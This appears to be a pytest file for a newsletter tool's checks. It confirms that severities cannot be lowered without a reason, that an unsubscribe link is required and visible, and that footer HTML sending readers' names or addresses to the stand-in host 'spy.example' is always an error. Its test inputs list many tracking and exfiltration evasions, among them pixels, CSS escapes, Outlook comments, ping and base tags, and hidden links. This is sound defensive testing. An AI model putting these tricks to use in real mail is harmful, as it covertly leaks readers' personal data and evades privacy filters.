"""Settings of a branch that would let a bad mail pass the checks: each is refused, or shown."""

import re
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from newsletter.checks.registry import CHECKS
from newsletter.cli.main import main
from newsletter.render.template_files import BUILT_IN
from tests.checks.material import BASE, problems_of

News = Callable[..., Result]

OFF = '{severity: "off", reason: it is fine}'
ADDRESS = "https://spy.example/?"
ALL_OFF = f"checks:\n  links: {OFF}\n  tracking: {OFF}\n  placeholders: {OFF}\n"


@pytest.fixture
def news(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> News:
    """Return a function that runs a command on a newsletter with more settings, and HTML in its footer."""
    monkeypatch.chdir(tmp_path)
    plain = (BASE / "newsletter.yml").read_text(encoding="utf-8")
    (tmp_path / "issues").mkdir()
    issue = (BASE / "issues" / "2026-04-27.yml").read_text(encoding="utf-8")
    (tmp_path / "issues" / "2026-04-27.yml").write_text(issue, encoding="utf-8")

    def run(*arguments: str, extra: str, html: str = "") -> Result:
        (tmp_path / "newsletter.yml").write_text(plain + extra, encoding="utf-8")
        if html:
            (tmp_path / "templates").mkdir(exist_ok=True)
            footer = (BUILT_IN / "footer.mjml.j2").read_text(encoding="utf-8")
            (tmp_path / "templates" / "footer.mjml.j2").write_text(f"{footer}<mj-raw>{html}</mj-raw>\n")
        return CliRunner().invoke(main, arguments)

    return run


@pytest.mark.parametrize("name", sorted(name for name, check in CHECKS.items() if check.default == "error"))
def test_an_error_is_lowered_only_with_a_reason(name: str, news: News) -> None:
    severity = "warning" if len(name) % 2 else "note"
    refused = news("check", extra=f"checks:\n  {name}: {severity}\n")
    assert refused.exit_code == 1
    assert refused.output.startswith(f"Files\nnewsletter.yml:6: error: checks.{name} is ")
    if not CHECKS[name].always_error:
        assert f"lowered from error to {severity} without a reason" in refused.output
        assert f"write {{severity: {severity}, reason: why it is lowered}}" in refused.output


@pytest.mark.parametrize("command", [("check",), ("send", "2026-04-27", "--dry-run")])
def test_no_command_accepts_it(command: tuple[str, ...], news: News) -> None:
    refused = news(*command, extra="checks: {weight: note}\n")
    assert refused.exit_code == 1 and "newsletter.yml:5: " in refused.output + refused.stderr


@pytest.mark.parametrize("setting", [OFF, "{severity: warning, reason: it is fine}", "note"])
def test_the_unsubscribe_link_is_always_required(setting: str, news: News) -> None:
    refused = news("check", extra=f"checks:\n  unsubscribe: {setting}\n")
    assert refused.exit_code == 1
    assert refused.output.startswith(
        "Files\nnewsletter.yml:6: error: checks.unsubscribe is always an error, because each reader must be "
        "able to unsubscribe\n    delete this line\n"
    )


def test_a_severity_is_raised_without_a_reason(news: News) -> None:
    raised = news("check", "--format", "github", extra="checks: {unsubscribe: error, monday: error}\n")
    assert (raised.exit_code, raised.output) == (0, "")


@pytest.mark.parametrize(
    "html",
    [
        pytest.param(f'<img src="{ADDRESS}[[address]]" width="1" height="1" alt="" />', id="pixel"),
        pytest.param(f'<img src="{ADDRESS}[[address]]" width="100" alt="A bowl" />', id="picture"),
        pytest.param('<img src="[[unsubscribe_url]]" width="100" alt="A bowl" />', id="own-page"),
        pytest.param(f'<img src="/a" srcset="{ADDRESS}[[name]] 2x" width="9" alt="A" />', id="srcset"),
        pytest.param(f'<table background="{ADDRESS}[[name]]"><tr><td>a</td></tr></table>', id="background"),
        pytest.param(f'<p style="background:url({ADDRESS}[[name]])">a</p>', id="style"),
        pytest.param("<p style=\"background:URL('[[unsubscribe_url]]')\">a</p>", id="style-own-page"),
        pytest.param(f"<style>p {{ background: url({ADDRESS}[[name]]) }}</style>", id="style-sheet"),
        pytest.param(f'<iframe src="{ADDRESS}[[name]]"></iframe>', id="frame"),
        pytest.param(f'<a href="{ADDRESS}[[address]]">a</a>', id="link"),
        pytest.param('<a href="HTTPS://spy.example/[[address]]">a</a>', id="capitals"),
        pytest.param('<a href="//spy.example/[[address]]">a</a>', id="no-scheme"),
        pytest.param('<a href="\\\\spy.example/[[address]]">a</a>', id="backslashes"),
        pytest.param('<a href="https:spy.example/[[address]]">a</a>', id="no-slashes"),
        pytest.param('<a href="ht&#10;tps://spy.example/[[address]]">a</a>', id="line-break"),
        pytest.param('<a href="https://spy.example/a b?[[address]]">a</a>', id="blank"),
        pytest.param("<a href='https://spy.example/?q=\"[[address]]'>a</a>", id="quotation-mark"),
        pytest.param('<a href="/" ping="https://spy.example/ [[address]]">a</a>', id="ping"),
        pytest.param('<svg><image xlink:href="https://spy.example/ [[name]]" /></svg>', id="svg"),
        pytest.param('<img alt="A" width="9" lowsrc="https://spy.example/ [[name]]" />', id="rare-attribute"),
        pytest.param(f'<!--[if mso]><img src="{ADDRESS} [[name]]" /><![endif]-->', id="outlook"),
        pytest.param(
            f'<!-- [IF gte mso 9]><v:fill src="{ADDRESS} [[name]]" /><![endif]-->', id="outlook-vml"
        ),
        pytest.param("<p style=\"background:image-set('//spy.example/ [[name]]' 1x)\">a</p>", id="image-set"),
        pytest.param("<p style=\"background:url('//spy.example/( [[name]]')\">a</p>", id="style-bracket"),
        pytest.param("<p style=\"background:u\\72l('//spy.example/ [[name]]')\">a</p>", id="style-escape"),
        pytest.param("<style>p::after { content: '[[name]]' }</style>", id="style-that-a-name-could-end"),
        pytest.param('<base href="https://spy.example/" /><a href="?[[address]]">a</a>', id="base"),
    ],
)
def test_the_data_of_a_reader_in_an_address_is_always_an_error(html: str, news: News) -> None:
    result = news("check", extra=ALL_OFF, html=html)
    assert result.exit_code == 1, result.output
    assert re.search(r"^templates/footer\.mjml\.j2:\d: error: ", result.output, re.MULTILINE)


def test_it_cannot_be_lowered_either(news: News) -> None:
    lowered = ALL_OFF.replace('"off"', "note")
    result = news("check", extra=lowered, html=f'<img src="{ADDRESS}[[address]]" width="1" alt="" />')
    assert result.output.count("templates/footer.mjml.j2:5: error: ") == 2


@pytest.mark.parametrize(
    "html",
    [
        pytest.param('<img src="https://example.com/a.png" width="1" height="1" alt="" />', id="pixel"),
        pytest.param("<p>[[nme]]</p>", id="unknown-placeholder"),
    ],
)
def test_other_findings_can_be_switched_off(html: str, news: News) -> None:
    assert news("check", extra="", html=html).exit_code == 1
    off = news("check", extra=ALL_OFF, html=html)
    assert off.exit_code == 0 and "tracking is switched off: it is fine" in off.output


@pytest.mark.parametrize(
    "html",
    [
        pytest.param('<a href="[[unsubscribe_url]]">a</a>', id="unsubscribe"),
        pytest.param("<p>[[name]] // [[address]], https://example.com [[name]]</p>", id="text"),
        pytest.param('<a href="mailto:a@example.com?body=[[name]]">a</a>', id="mailto"),
        pytest.param('<img src="https://example.com/a.png" width="100" alt="For [[name]]" />', id="alt"),
    ],
)
def test_placeholders_elsewhere_are_no_errors(html: str, news: News) -> None:
    assert "error: " not in news("check", extra="", html=html).output


@pytest.mark.parametrize(
    "html",
    [
        pytest.param(
            '<!--[if mso]><img src="https://a.example/" width="1" alt="" /><![endif]-->', id="pixel"
        ),
        pytest.param("<!--[if mso]><script>1</script><![endif]-->", id="script"),
        pytest.param(
            "<p style=\"background:image-set('https://a.example/' 1x)\">Broccoli</p>", id="image-set"
        ),
        pytest.param("<p style=\"background:url('\\68ttps://a.example/')\">Broccoli</p>", id="escape"),
        pytest.param("<p style=\"background:url('ht\\9 tps:a.example/')\">Broccoli</p>", id="tab"),
        pytest.param("<p style=\"background:url('  //a.example/')\">Broccoli</p>", id="blanks"),
        pytest.param('<style>@f\\6fnt-face { font-family: "a" }</style>', id="font"),
        pytest.param(f"<style>{'(' * 3000} url(\\68ttps://a.example/)</style>", id="deep-brackets"),
    ],
)
def test_tracking_that_only_some_programs_see(html: str, news: News) -> None:
    assert re.search(
        r"^templates/footer\.mjml\.j2:\d: error: .*\[tracking\]$",
        news("check", extra="", html=html).output,
        re.M,
    )


def test_the_comments_that_hide_from_outlook_hide_nothing_else(news: News) -> None:
    html = "<!--[if !mso]><!--><p>a</p><!--<![endif]--><script>1</script>"
    assert "<script> is not allowed in a mail" in news("check", extra="", html=html).output


@pytest.mark.parametrize(
    "link",
    [
        pytest.param('<a href="[[unsubscribe_url]]"></a>', id="no-words"),
        pytest.param('<a href="[[unsubscribe_url]]">&#8203;</a>', id="invisible-character"),
        pytest.param('<a href="[[unsubscribe_url]]" style="display:none">Leave</a>', id="not-displayed"),
        pytest.param('<a href="[[unsubscribe_url]]" style="font-size:1px">Leave</a>', id="tiny"),
        pytest.param('<p hidden="hidden"><a href="[[unsubscribe_url]]">Leave</a></p>', id="in-a-hidden-part"),
        pytest.param('<a class="x" href="[[unsubscribe_url]]">Leave</a>', id="on-a-phone"),
    ],
)
def test_an_unsubscribe_link_that_nobody_sees(link: str, news: News, tmp_path: Path) -> None:
    news("check", extra="", html="<style>@media (max-width: 480px) { .x { visibility: hidden } }</style>")
    footer = tmp_path / "templates" / "footer.mjml.j2"
    text = footer.read_text(encoding="utf-8")
    start, end = text.index('<a href="[[uns'), text.index("</a>") + 4
    footer.write_text(text[:start] + link + text[end:], encoding="utf-8")
    output = news("check", extra=ALL_OFF).output
    assert re.search(r"footer\.mjml\.j2:\d: error: the unsubscribe link cannot be seen on a", output), output


def test_an_address_in_the_text_part(tmp_path: Path) -> None:
    text = "Hello\n[[unsubscribe_url]]\nHTTPS://spy.example/?a=[[address]]\n1 Kitchen Road"
    found = [problem for problem in problems_of(tmp_path, text=text) if problem.check == "placeholders"]
    assert [problem.fixed_severity for problem in found] == [True]
